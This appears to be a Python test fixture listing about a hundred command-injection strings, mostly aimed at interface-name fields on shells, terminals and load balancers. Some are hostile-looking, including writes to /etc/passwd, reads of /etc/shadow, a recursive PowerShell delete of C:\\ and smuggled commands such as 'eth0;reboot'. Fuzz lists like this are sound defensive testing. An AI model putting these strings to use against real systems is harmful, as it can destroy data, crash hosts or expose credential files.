"""A hundred strings that a shell, a terminal, a page or a balancer's own command line would obey."""

PAYLOADS = [
    "$(reboot)", "`reboot`", "; reboot", "| reboot", "|| reboot", "& reboot", "&& reboot", "\nreboot", "\r\nreboot",
    "reboot\n", "> /etc/passwd", ">> /etc/passwd", "< /etc/shadow", "2>&1", "<(reboot)", "<<END\nreboot\nEND",
    "${IFS}reboot", "$IFS$9reboot", "$HOME", "${PATH}", "$((1+1))", "%COMSPEC%", "%PATH%", "!PATH!", "^& reboot",
    "& calc.exe", "| calc", "& shutdown /s", '" & calc & "', "'; reboot; '", '"; reboot; "', "'$(reboot)'",
    '"$(reboot)"', "\\$(reboot)", "\\`reboot\\`", "--help", "-j", "-f/etc/passwd", "-", "--", "..", "../..", "/",
    "eth0/../../all", "eth0;reboot", "eth0 reboot", "eth0\treboot", "eth0\nreboot", "eth0\0reboot", "eth0$(reboot)",
    "eth0`reboot`", "eth0|reboot", "eth0&reboot", "eth0>x", "eth0<x", "eth0'", 'eth0"', "eth0\\", "eth0#", "eth0*",
    "eth0?", "eth0[", "eth0]", "eth0{", "eth0}", "eth0(", "eth0)", "eth0!", "eth0~", "eth0=", "eth0%x", "eth0,eth1",
    "~root", "*", "?", "[a-z]", "{a,b}", "#comment", "!!", "!reboot", "=reboot", "\x1b[2J", "\x1b]0;x\x07", "\x00",
    "\x7f", "\x85", "\u2028reboot", "\u2029reboot", "\u202ereboot", "\uff1breboot", "eth\u2070", "\u0435th0", " ",
    "", "a" * 16, "a" * 4096, "eth0 -j DROP", "eth0 master x", "Ethernet 2", 'Ethernet"; calc', "@", "'", '"',
    "\\", "`", "$", "%", "rem x", ":: x", "iex(calc)", "$env:PATH", "@(calc)", "; Remove-Item -Recurse C:\\",
    "[exec calc]", "tmsh modify sys", "run util bash", "\u2018reboot\u2019", "eth0\u00a0reboot", "0x10", "1e3",
]
